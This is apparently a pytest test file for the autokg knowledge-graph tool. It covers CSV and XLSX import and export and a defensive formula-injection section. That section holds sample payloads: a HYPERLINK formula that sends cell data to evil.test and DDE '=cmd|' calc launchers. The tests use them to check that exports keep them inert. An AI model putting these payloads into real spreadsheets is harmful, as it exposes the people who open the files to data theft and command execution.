"""Spreadsheets: CSV as Excel writes it, XLSX in and out, formula injection, and the workbook round trip.

Real files on disk and a real SQLite store. Workbooks written by openpyxl and by XlsxWriter are
read by the loader (python-calamine); workbooks autokg writes are read back with openpyxl and
python-calamine."""

from __future__ import annotations

import csv
import datetime as dt
import io
import warnings
import zipfile

import pytest
from click.testing import CliRunner

from autokg.cli import cli
from autokg.exports.tabular import csv_rows, neutralize, write_csv
from autokg.exports.xlsx import write_sheet, write_workbook

from _helpers import SEED, dump, fact, load, open_embedded, rows, table, write_jsonl
from test_rdf import CASES, CURATED, answers

openpyxl = pytest.importorskip("openpyxl")
python_calamine = pytest.importorskip("python_calamine")

# One graph, written below in every spreadsheet shape.
RECORDS = [
    {"entity": "Stellantis", "type": "Company", "aliases": ["Stellantis N.V.", "Citroën"], "country": "NL"},
    fact("Citroën", "PARTNERS_WITH", "Leapmotor", {"url": "https://example.com/a", "published": "2023-10-26"},
         domain="electric vehicles", status="active", since="2023"),
    fact("Stellantis", "INVESTS_IN", "Leapmotor", {"url": "https://example.com/a", "published": "2023-10-26"},
         stake_pct=21, since="2023-10-26", confidence=0.9),
]
HEADER = ["subject", "predicate", "object", "domain", "status", "since", "stake_pct", "source_url",
          "source_published", "confidence"]
ROWS = [
    ["Citroën", "PARTNERS_WITH", "Leapmotor", "electric vehicles", "active", "2023", "",
     "https://example.com/a", "2023-10-26", ""],
    ["Stellantis", "INVESTS_IN", "Leapmotor", "", "", "2023-10-26", "21", "https://example.com/a",
     "2023-10-26", "0.9"],
]
ENTITY_HEADER = ["entity", "type", "aliases", "country"]
ENTITY_ROW = ["Stellantis", "Company", "Stellantis N.V.; Citroën", "NL"]


@pytest.fixture
def expected(tmp_path):
    store = open_embedded(tmp_path, "expected.db")
    assert load(store, write_jsonl(tmp_path / "facts.jsonl", RECORDS)).ok
    return dump(store)


def _text(header, rows_, delimiter=",", eol="\n"):
    """CSV text as a spreadsheet writes it (quoting cells that hold the delimiter)."""
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator=eol).writerows([header, *rows_])
    return buf.getvalue()


def _loaded(tmp_path, *paths, name="kg.db", **kw):
    store = open_embedded(tmp_path, name)
    report = load(store, *paths, **kw)
    return store, report


# ---- CSV as spreadsheets write it ------------------------------------------------------------

def test_excel_european_csv_loads(tmp_path, expected):
    # Excel with a European locale: semicolons, a UTF-8 BOM, CRLF, its own header spelling
    header = ["Subject", "Predicate", "Object", "Domain", "Status", "Since", "Stake pct", " Source URL",
              "Source Published", "Confidence"]
    rels = tmp_path / "facts.csv"
    rels.write_bytes(b"\xef\xbb\xbf" + _text(header, ROWS, ";", "\r\n").encode("utf-8"))
    ents = tmp_path / "entities.csv"
    ents.write_bytes(b"\xef\xbb\xbf" + _text(["Entity", "Type", "Aliases", "Country"], [ENTITY_ROW], ";", "\r\n")
                     .encode("utf-8"))
    store, report = _loaded(tmp_path, rels, ents)
    assert report.ok, report.rejected
    assert dump(store) == expected


def test_tsv_and_utf16_unicode_text_load(tmp_path, expected):
    tsv = tmp_path / "facts.tsv"
    tsv.write_text(_text(HEADER, ROWS, "\t"), encoding="utf-8")
    ents = tmp_path / "entities.txt"  # Excel's "Unicode text": UTF-16 with a BOM, tabs, CRLF
    ents.write_bytes(_text(ENTITY_HEADER, [ENTITY_ROW], "\t", "\r\n").encode("utf-16"))
    assert ents.read_bytes()[:2] in (b"\xff\xfe", b"\xfe\xff")
    store = open_embedded(tmp_path)
    report = load(store, tsv)
    assert report.ok, report.rejected
    report = load(store, ents, input_format="csv")
    assert report.ok, report.rejected
    assert dump(store) == expected


def test_the_delimiter_option_overrides_the_sniffed_one(tmp_path, expected):
    piped = tmp_path / "facts.csv"
    piped.write_text(_text(HEADER, ROWS, "|"), encoding="utf-8")
    store, report = _loaded(tmp_path, piped, write_jsonl(tmp_path / "e.jsonl", RECORDS[:1]), csv_delimiter="|")
    assert report.ok, report.rejected
    assert dump(store) == expected
    # a wrong one is named, with the fix
    semi = tmp_path / "semi.csv"
    semi.write_text(_text(HEADER, ROWS, ";"), encoding="utf-8")
    _, report = _loaded(tmp_path, semi, name="b.db", csv_delimiter=",")
    [rej] = report.rejected
    assert rej.where == str(semi) and "semicolon-delimited" in rej.reason and "drop --csv-delimiter" in rej.reason
    # and from the command line
    assert CliRunner().invoke(cli, ["validate", str(piped)]).exit_code == 1
    result = CliRunner().invoke(cli, ["validate", str(piped), "--csv-delimiter", "|"])
    assert result.exit_code == 0 and "2 relations" in result.output, result.output


def test_a_sep_line_names_the_delimiter_and_lines_stay_true(tmp_path):
    p = tmp_path / "facts.csv"
    p.write_text("sep=;\n" + _text(HEADER, [ROWS[0], ["A", "NOPE", "B", "", "", "", "", "u", "", ""]], ";"),
                 encoding="utf-8")
    store, report = _loaded(tmp_path, p)
    assert [str(r) for r in report.rejected] == [f"{p}:4: unknown predicate 'NOPE' (known: PARTNERS_WITH, "
                                                 "WORKS_FOR, MET_WITH, ATTENDED, SUBSIDIARY_OF, INVESTS_IN, "
                                                 "SUPPLIES, MAKES)"]
    assert table(store, "partners", "company", "partner") == [("Citroën", "Leapmotor")]


def test_cp1252_is_named_with_the_fix_and_loads_with_encoding(tmp_path):
    p = tmp_path / "facts.csv"
    p.write_bytes(_text(HEADER, ROWS, ";", "\r\n").encode("cp1252"))
    _, report = _loaded(tmp_path, p, name="a.db")
    assert [str(r) for r in report.rejected] == [
        f"{p}: not valid UTF-8; it looks like cp1252 (Windows-1252): load it with --encoding cp1252"]
    store, report = _loaded(tmp_path, p, name="b.db", encoding="cp1252")
    assert report.ok, report.rejected
    assert table(store, "partners", "company", "partner") == [("Citroën", "Leapmotor")]
    # and from the command line
    result = CliRunner().invoke(cli, ["--store", str(tmp_path / "c.db"), "load", str(p)])
    assert result.exit_code == 1 and "load it with --encoding cp1252" in result.output
    result = CliRunner().invoke(cli, ["--store", str(tmp_path / "c.db"), "load", str(p), "--encoding", "cp1252"])
    assert result.exit_code == 0, result.output
    result = CliRunner().invoke(cli, ["--store", str(tmp_path / "c.db"), "load", str(p), "--encoding", "nope"])
    assert result.exit_code == 1 and "unknown encoding 'nope'" in result.output


def test_utf16_without_a_bom_is_named(tmp_path):
    p = tmp_path / "facts.csv"
    p.write_bytes(_text(HEADER, ROWS, "\t").encode("utf-16-le"))
    _, report = _loaded(tmp_path, p)
    [rej] = report.rejected
    assert rej.where == str(p) and "not valid UTF-8; it looks like utf-16" in rej.reason
    store, report = _loaded(tmp_path, p, name="b.db", encoding="utf-16-le")
    assert report.ok and store.stats()["relations"] == 2


@pytest.mark.parametrize("header, message", [
    (["subjct", "predicate", "object", "source_url"],
     "CSV header has an unknown column 'subjct' (column 1; did you mean 'subject'?"),
    (["subject", "predicate", "object", "Source-Ulr"],
     "CSV header has an unknown column 'Source-Ulr' (column 4; did you mean 'source_url'?"),
    (["subject", "predicate", "object", "source_url", "notes"],
     "CSV header has an unknown column 'notes' (column 5; a relation file has: subject, subject_type,"),
    (["subject", "Subject", "predicate", "object", "source_url"], "CSV header names 'subject' twice (columns 1 and 2)"),
    (["entity", "type", "contry"], "CSV header has an unknown column 'contry' (column 3; did you mean 'country'?"),
])
def test_an_unknown_column_names_the_closest(tmp_path, header, message):
    p = tmp_path / "facts.csv"
    p.write_text(",".join(header) + "\n" + ",".join("x" for _ in header) + "\n", encoding="utf-8")
    good = write_jsonl(tmp_path / "good.jsonl", RECORDS)
    store, report = _loaded(tmp_path, p, good)
    [rej] = report.rejected
    assert rej.where == str(p) and rej.reason.startswith(message), rej.reason
    assert store.stats()["relations"] == 2  # the other file loads


def test_header_case_and_spaces_map_onto_columns(tmp_path):
    p = tmp_path / "facts.csv"
    p.write_text(" SUBJECT ,Predicate,object,  source  url ,Source_Title\nA,partners_with,B,https://x.test/,T\n",
                 encoding="utf-8")
    store, report = _loaded(tmp_path, p)
    assert report.ok, report.rejected
    assert rows(store, "sources", a="A", b="B")[0]["url"] == "https://x.test/"


# ---- XLSX in ---------------------------------------------------------------------------------

def _typed_rows():
    """ROWS with the cells a person types into Excel: numbers and dates."""
    d = dt.date(2023, 10, 26)
    return [
        ["Citroën", "PARTNERS_WITH", "Leapmotor", "electric vehicles", "active", 2023, None,
         "https://example.com/a", d, None],
        ["Stellantis", "INVESTS_IN", "Leapmotor", None, None, d, 21, "https://example.com/a", d, 0.9],
    ]


def test_an_openpyxl_workbook_loads(tmp_path, expected):
    p = tmp_path / "facts.xlsx"
    wb = openpyxl.Workbook()
    notes = wb.active
    notes.title = "Notes"  # the relations sheet is found by name, not by position
    notes.append(["anything"])
    ents = wb.create_sheet("Entities")
    ents.append(["Entity", "Type", "Aliases", "Country"])
    ents.append(ENTITY_ROW)
    rels = wb.create_sheet("Relations")
    rels.append([h.replace("_", " ").title() for h in HEADER])
    for r in _typed_rows():
        rels.append(r)
    rels.append(["A", "NOPE", "B", None, None, None, None, "u", None, None])
    rels.append(["A", "PARTNERS_WITH", "B", None, None, dt.datetime(2024, 5, 1, 0, 0), None, "u", None, None])
    for row in rels.iter_rows(min_row=2, min_col=6, max_col=6):
        for c in row:
            if isinstance(c.value, (dt.date, dt.datetime)):
                c.number_format = "dd/mm/yyyy"  # how it shows does not change what it is
    wb.save(p)
    store, report = _loaded(tmp_path, p)
    assert [str(r).split(" (known")[0] for r in report.rejected] == [f"{p}:Relations:4: unknown predicate 'NOPE'"]
    assert dump(store)["entities"] == sorted(expected["entities"] + [("Company", "A", (), "{}"),
                                                                     ("Company", "B", (), "{}")])
    assert table(store, "partners-of", "partner", "since", company="A") == [("B", "2024-05-01")]
    got = {r["partner"]: r["since"] for r in rows(store, "partners-of", company="Stellantis")}
    assert got == {"Leapmotor": "2023"}
    [inv] = [r for r in store.relation_rows() if r["predicate"] == "INVESTS_IN"]
    assert inv["props"] == {"since": "2023-10-26", "stake_pct": 21}


def test_an_xlsxwriter_workbook_loads_from_its_first_sheet(tmp_path, expected):
    import xlsxwriter

    p = tmp_path / "facts.xlsx"
    book = xlsxwriter.Workbook(str(p))
    date = book.add_format({"num_format": "yyyy-mm-dd"})
    sheet = book.add_worksheet("Sheet1")
    sheet.write_row(0, 0, HEADER)
    for i, r in enumerate(_typed_rows(), start=1):
        for j, v in enumerate(r):
            if isinstance(v, dt.date):
                sheet.write_datetime(i, j, v, date)
            elif v is not None:
                sheet.write(i, j, v)
    sheet.write_row(3, 0, ["A", "PARTNERS_WITH", "B", None, None, "2024-13-01", None, "u"])
    ents = book.add_worksheet("entities")
    ents.write_row(0, 0, ENTITY_HEADER)
    ents.write_row(1, 0, ENTITY_ROW)
    book.close()
    store, report = _loaded(tmp_path, p)
    assert [str(r) for r in report.rejected] == [
        f"{p}:Sheet1:4: since '2024-13-01' is not a valid date (YYYY, YYYY-MM or YYYY-MM-DD)"]
    assert dump(store) == expected


def test_entity_rows_on_the_relations_sheet_count(tmp_path, expected):
    # the scan for entity records skips relation sheets after their header, never entity rows
    ents = tmp_path / "entities.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "relations"
    wb.active.append(ENTITY_HEADER)
    wb.active.append(ENTITY_ROW)
    wb.save(ents)
    rels = tmp_path / "facts.xlsx"
    wb = openpyxl.Workbook()
    for r in [HEADER, *_typed_rows()]:
        wb.active.append(r)
    wb.save(rels)
    store, report = _loaded(tmp_path, rels, ents)
    assert report.ok, report.rejected
    assert dump(store) == expected


def test_a_workbook_sheet_without_a_usable_header_is_refused(tmp_path):
    p = tmp_path / "facts.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "relations"
    wb.active.append(["subject", "object", "source_url"])
    wb.save(p)
    _, report = _loaded(tmp_path, p)
    [rej] = report.rejected
    assert rej.where == str(p) and rej.reason.startswith("sheet 'relations' header (row 1) lacks predicate")
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(b"PK\x03\x04 not really a zip")
    _, report = _loaded(tmp_path, bad, name="b.db")
    [rej] = report.rejected
    assert rej.where == str(bad) and rej.reason.startswith("not a readable XLSX workbook")


# ---- XLSX out --------------------------------------------------------------------------------

def test_a_sheet_of_rows_is_typed_with_frozen_header_and_filter(tmp_path):
    out = tmp_path / "rows.xlsx"
    data = [{"company": "Renault Group", "since": "2024-04-30", "until": "2025", "sources": 3, "share": 21.5},
            {"company": "Geely", "since": "2022-06", "until": None, "sources": 1, "share": None}]
    assert write_sheet(data, ["company", "since", "until", "sources", "share"], out, sheet="partners") == 2
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        ws = openpyxl.load_workbook(out)["partners"]
    assert [c.value for c in ws[1]] == ["company", "since", "until", "sources", "share"]
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:E3"
    assert [c.value for c in ws[2]] == ["Renault Group", dt.datetime(2024, 4, 30), "2025", 3, 21.5]
    assert ws["B2"].is_date and ws["B2"].number_format == "yyyy-mm-dd"
    assert [c.value for c in ws[3]] == ["Geely", "2022-06", None, 1, None]  # reduced precision stays text
    sheet = python_calamine.CalamineWorkbook.from_path(str(out)).get_sheet_by_name("partners")
    assert sheet.to_python()[1] == ["Renault Group", dt.date(2024, 4, 30), "2025", 3, 21.5]


def test_cli_writes_query_stats_and_entities_as_xlsx(tmp_path):
    db = str(tmp_path / "kg.db")
    run = lambda *a: CliRunner().invoke(cli, ["--store", db, *a])  # noqa: E731
    assert run("load", *map(str, SEED)).exit_code == 0
    out = tmp_path / "q.xlsx"
    result = run("query", "partners-of", "--company", "Renault", "--format", "xlsx", "-o", str(out))
    assert result.exit_code == 0, result.output
    ws = openpyxl.load_workbook(out).active
    got = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    assert [r[0] for r in got] == [r["partner"] for r in rows(open_embedded(tmp_path), "partners-of", company="Renault")]
    assert all(isinstance(r[5], int) for r in got)  # sources
    for cmd in (["stats"], ["entities", "--type", "Company"], ["check"]):
        result = run(*cmd, "--format", "xlsx", "-o", str(tmp_path / "x.xlsx"))
        assert result.exit_code == 0, result.output
        text = run(*cmd, "--format", "csv").output.splitlines()
        ws = openpyxl.load_workbook(tmp_path / "x.xlsx").active
        assert ws.max_row == len(text) > 1, cmd
        assert [c.value for c in ws[1]] == text[0].split(","), cmd
    result = run("stats", "--format", "xlsx")
    assert result.exit_code == 2 and "add -o FILE.xlsx" in result.output
    result = run("query", "hubs", "--format", "csv", "-o", str(tmp_path / "hubs.csv"))
    assert result.exit_code == 0 and (tmp_path / "hubs.csv").read_text().startswith("company,partners\n")


def test_the_workbook_opens_in_two_readers_and_holds_every_row(tmp_path):
    store = open_embedded(tmp_path)
    assert load(store, *SEED, *CURATED).ok
    out = tmp_path / "kg.xlsx"
    counts = write_workbook(store, out)
    stats = store.stats()
    assert counts == {"entities": stats["entities"], "relations": stats["relations"],
                      "sources": stats["sources"], "claims": stats["links"]}
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # openpyxl warns on parts Excel would repair
        wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["entities", "relations", "sources", "claims"]
    for name, n in counts.items():
        ws = wb[name]
        assert ws.max_row == n + 1 and ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")
    cal = python_calamine.CalamineWorkbook.from_path(str(out))
    assert {n: len(cal.get_sheet_by_name(n).to_python()) - 1 for n in cal.sheet_names} == counts
    with zipfile.ZipFile(out) as z:
        assert z.testzip() is None
    claims = wb["claims"]
    head = [c.value for c in claims[1]]
    assert head[:5] == ["subject", "subject_type", "predicate", "object", "object_type"]
    quotes = {r[head.index("source_quote")] for r in claims.iter_rows(min_row=2, values_only=True)} - {None}
    assert quotes == {link["quote"] for link in store.link_rows() if link["quote"]}


# ---- formula injection -----------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.test/?x="&A1,"Renault")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd"]


@pytest.mark.parametrize("text, safe", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Renault", "Renault"), ("a=b", "a=b"), ("", ""),
])
def test_neutralize(text, safe):
    assert neutralize(text) == safe


def test_csv_keeps_numbers_and_neutralises_text():
    got = list(csv_rows([{"a": -3, "b": "-3", "c": ["=x", "y"], "d": 2.0}], ["a", "b", "c", "d"]))
    assert got == [["a", "b", "c", "d"], ["-3", "'-3", "'=x; y", "2"]]
    assert list(csv_rows([{"a": "=x"}], ["a"], sanitize=False)) == [["a"], ["=x"]]


@pytest.fixture
def hostile_store(tmp_path):
    store = open_embedded(tmp_path, "hostile.db")
    recs = [fact(name, "PARTNERS_WITH", "Renault", domain="=cmd|'/C calc'!A0") for name in HOSTILE]
    recs.append({"entity": HOSTILE[0], "type": "Company", "aliases": ["@alias"]})
    assert load(store, write_jsonl(tmp_path / "hostile.jsonl", recs)).ok
    yield store
    store.close()


def test_hostile_names_are_inert_in_csv_output(tmp_path, hostile_store):
    hostile_store.close()
    db = str(tmp_path / "hostile.db")
    out = CliRunner().invoke(cli, ["--store", db, "query", "partners-of", "--company", "Renault", "--format", "csv"])
    assert out.exit_code == 0
    cells = [c for row in csv.reader(out.output.splitlines()) for c in row]
    assert not [c for c in cells if c and c[0] in "=+-@"]
    assert {f"'{h}" for h in HOSTILE} <= set(cells)
    raw = CliRunner().invoke(cli, ["--store", db, "query", "partners-of", "--company", "Renault", "--format", "csv",
                                   "--no-sanitize"])
    assert set(HOSTILE) <= {c for row in csv.reader(raw.output.splitlines()) for c in row}
    ents = CliRunner().invoke(cli, ["--store", db, "entities", "--format", "csv"]).output
    assert "'@alias" in ents and "\n=" not in ents
    p = tmp_path / "rows.csv"
    write_csv([{"name": HOSTILE[1]}], ["name"], p)
    assert p.read_text() == "name\n'+cmd|' /C calc'!A0\n"


def test_hostile_names_are_text_cells_in_xlsx_and_round_trip(tmp_path, hostile_store):
    out = tmp_path / "kg.xlsx"
    write_workbook(hostile_store, out)
    write_sheet(rows(hostile_store, "partners-of", company="Renault"),
                ["partner", "domain", "status", "since", "until", "sources"], tmp_path / "q.xlsx")
    for path in (out, tmp_path / "q.xlsx"):
        with zipfile.ZipFile(path) as z:
            sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula anywhere
        wb = openpyxl.load_workbook(path)
        values = {c.value for ws in wb for row in ws.iter_rows() for c in row if c.value is not None}
        assert all(c.data_type != "f" for ws in wb for row in ws.iter_rows() for c in row)
        assert set(HOSTILE) <= values
    copy = open_embedded(tmp_path, "copy.db")
    assert load(copy, out).ok
    assert dump(copy) == dump(hostile_store)
    assert ({(e["name"], e["declared"]) for e in copy.entity_rows()}
            == {(e["name"], e["declared"]) for e in hostile_store.entity_rows()})


# ---- round trip ------------------------------------------------------------------------------

@pytest.mark.parametrize("dataset", ["seed", "curated", "seed+curated"])
def test_export_then_load_gives_the_same_graph(tmp_path, dataset):
    paths = {"seed": SEED, "curated": CURATED, "seed+curated": SEED + CURATED}[dataset]
    store = open_embedded(tmp_path, "orig.db")
    assert load(store, *paths).ok
    store.close()
    out = tmp_path / "kg.xlsx"
    run = lambda db, *a: CliRunner().invoke(cli, ["--store", str(tmp_path / db), *a])  # noqa: E731
    result = run("orig.db", "export", "xlsx", str(out))
    assert result.exit_code == 0, result.output
    result = run("copy.db", "load", str(out))
    assert result.exit_code == 0, result.output
    store, copy = open_embedded(tmp_path, "orig.db"), open_embedded(tmp_path, "copy.db")
    before, after = answers(store), answers(copy)
    for i, (name, params) in enumerate(CASES):
        assert after[i] == before[i], (name, params)
    assert dump(copy) == dump(store)
    assert ({(e["type"], e["name"], e["declared"]) for e in copy.entity_rows()}
            == {(e["type"], e["name"], e["declared"]) for e in store.entity_rows()})
    again = load(copy, out)
    assert again.ok and all(getattr(again, k).summary()["new"] == getattr(again, k).summary()["updated"] == 0
                            for k in ("entities", "relations", "sources"))
